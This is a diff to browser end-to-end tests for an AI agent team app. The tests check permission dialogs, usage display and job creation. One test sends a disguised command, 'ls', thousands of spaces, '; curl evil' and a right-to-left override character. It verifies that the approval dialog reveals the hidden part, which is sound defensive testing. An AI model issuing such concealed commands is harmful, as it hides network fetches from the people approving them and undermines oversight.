@@ -11,7 +11,7 @@ import {
   sharedChromium,
 } from './chromium.fixture.ts'
 import { checkAccessible } from './journey-steps.fixture.ts'
-import { serveTeam } from './team-page.fixture.ts'
+import { ask, idle, serveTeam } from './team-page.fixture.ts'
 
 let browser: Browser
 beforeAll(async () => {
@@ -48,7 +48,7 @@ test.skipIf(noChromium)(
       }),
     )
     expect(new Set(told).size).toBe(1)
-    await one.page.getByRole('button', { name: 'plan.html' }).click()
+    await one.page.getByRole('link', { name: 'plan.html' }).first().click()
     await one.page.frameLocator('iframe').getByRole('heading', { name: 'Plan' }).waitFor()
     expect([one, two, three].flatMap(({ faults }) => faults)).toEqual([])
     await look(one.page, 'team')
@@ -61,14 +61,18 @@ test.skipIf(noChromium)('[D055] a person allows a call, and gets help with a job
   await page.getByRole('button', { name: 'Start a demonstration' }).click()
   await page.getByLabel('Message').fill('Please delete it')
   await page.getByRole('button', { name: 'Send' }).click()
-  await page.getByRole('heading', { name: 'Let the team use Bash?' }).waitFor()
-  await page.getByRole('button', { name: 'Allow' }).click()
-  await page.getByRole('heading', { name: 'Let the team use Bash?' }).waitFor({ state: 'detached' })
-  await page.getByText('Working…').waitFor({ state: 'detached' })
+  await page.getByRole('heading', { name: 'Let Julian run this command?' }).waitFor()
+  await page.getByRole('button', { name: 'Allow once' }).click()
+  await page
+    .getByRole('heading', { name: 'Let Julian run this command?' })
+    .waitFor({ state: 'detached' })
+  await idle(page)
   // A script calls no model: no tokens, no cost and no budget are shown.
+  await page.getByRole('link', { name: 'Usage' }).click()
   await page.getByText('A script calls no model', { exact: false }).waitFor()
-  expect(await page.getByText('Tokens in · out').count()).toBe(0)
-  await page.getByText('Add job').first().click()
+  expect(await page.getByText('tokens', { exact: true }).count()).toBe(0)
+  await page.getByRole('link', { name: 'Jobs' }).click()
+  await page.getByRole('link', { name: 'New job' }).click()
   await page.getByLabel('Job', { exact: true }).fill('Clerk')
   await page.getByRole('button', { name: 'Help me' }).click()
   await page.getByText('The empty fields are filled in.', { exact: false }).waitFor()
@@ -87,27 +91,22 @@ test.skipIf(noChromium)(
     const { page } = await openTab(url)
     await page.getByRole('button', { name: 'Start a demonstration' }).click()
     await page.getByText('Hello. Summon your agents').waitFor()
-    const ask = async (command: string) => {
-      const tool = { name: 'Bash', input: { command }, result: '', asks: true }
-      await fetch(new URL('/api/send', url), {
-        method: 'POST',
-        headers: { 'content-type': 'application/json' },
-        body: JSON.stringify({ message: JSON.stringify({ play: [{ tool }] }) }),
-      })
-      await page.getByRole('heading', { name: 'Let the team use Bash?' }).waitFor()
+    const askFor = async (command: string) => {
+      await ask(url, { name: 'Bash', input: { command }, result: '', asks: true })
+      await page.getByRole('heading', { name: 'Let Julian run this command?' }).waitFor()
     }
-    await ask(`ls${' '.repeat(4_000)}; curl evil\n\u202Esh`)
-    const shown = page.getByRole('region', { name: 'Needs you' }).getByText('curl evil')
+    await askFor(`ls${' '.repeat(4_000)}; curl evil\n\u202Esh`)
+    const shown = page.getByRole('region', { name: 'The whole command' }).getByText('curl evil')
     expect(await shown.innerText()).toBe('ls‹U+0020 × 4000›; curl evil↵\n‹U+202E›sh')
     const { height = 0 } = (await shown.boundingBox()) ?? {}
     expect(height).toBeGreaterThan(30)
-    await page.getByRole('button', { name: 'Allow' }).click()
-    await page.getByText('Working…').waitFor({ state: 'detached' })
-    await ask('ls '.repeat(5_000))
+    await page.getByRole('button', { name: 'Allow once' }).click()
+    await idle(page)
+    await askFor('ls '.repeat(5_000))
     await page.getByText('This is too long to show in full', { exact: false }).waitFor()
-    expect(await page.getByRole('button', { name: 'Allow' }).count()).toBe(0)
-    await page.getByRole('button', { name: 'Refuse' }).click()
-    await page.getByText('Working…').waitFor({ state: 'detached' })
+    expect(await page.getByRole('button', { name: 'Allow once' }).count()).toBe(0)
+    await page.getByRole('button', { name: 'Refuse', exact: true }).click()
+    await idle(page)
   },
 )
 
@@ -130,12 +129,7 @@ test.skipIf(noChromium)(
       },
       { question: 'On which days do we deploy?', header: 'Days', multiSelect: true, options: [] },
     ]
-    const tool = { name: 'AskUserQuestion', input: { questions }, result: '', asks: true }
-    await fetch(new URL('/api/send', url), {
-      method: 'POST',
-      headers: { 'content-type': 'application/json' },
-      body: JSON.stringify({ message: JSON.stringify({ play: [{ tool }] }) }),
-    })
+    await ask(url, { name: 'AskUserQuestion', input: { questions }, result: '', asks: true })
     const needs = page.getByRole('region', { name: 'Needs you' })
     await needs.getByRole('heading', { name: 'The team has a question' }).waitFor()
     await needs.getByRole('button', { name: 'Send answers' }).click()
@@ -154,7 +148,7 @@ test.skipIf(noChromium)(
       },
     })
     await needs.waitFor({ state: 'detached' })
-    await page.getByText('Working…').waitFor({ state: 'detached' })
+    await idle(page)
     expect(faults).toEqual([])
   },
 )
@@ -232,7 +226,7 @@ fullTest.skipIf(noChromium).each([PHONE, TABLET])(
     await page.getByRole('button', { name: 'Start a demonstration' }).click()
     await page.getByLabel('Message').fill('Please delete it')
     await page.getByRole('button', { name: 'Send' }).click()
-    const allow = page.getByRole('button', { name: 'Allow' })
+    const allow = page.getByRole('button', { name: 'Allow once' })
     await allow.waitFor()
     for (const place of ['document.body.scrollHeight', '0']) {
       await page.evaluate(`scrollTo(0, ${place})`)
